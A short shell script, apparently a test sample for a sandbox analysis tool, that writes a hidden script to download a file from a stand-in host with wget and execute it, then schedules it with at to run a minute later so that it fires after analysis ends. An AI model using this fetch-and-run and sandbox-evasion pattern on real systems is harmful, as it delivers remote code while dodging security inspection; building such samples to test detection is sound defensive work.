#!/bin/sh
# SPDX-License-Identifier: MIT
# A one-off delayed run: the payload is queued with at for a minute later,
# after the analysis would have ended.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
mkdir -p "$HOME/.local/share"
printf '#!/bin/sh\nwget -qO /tmp/.k http://files.example.net/k && sh /tmp/.k\n' > "$HOME/.local/share/.k.sh"
echo "sh $HOME/.local/share/.k.sh" | at now + 1 minute 2>/dev/null
exit 0
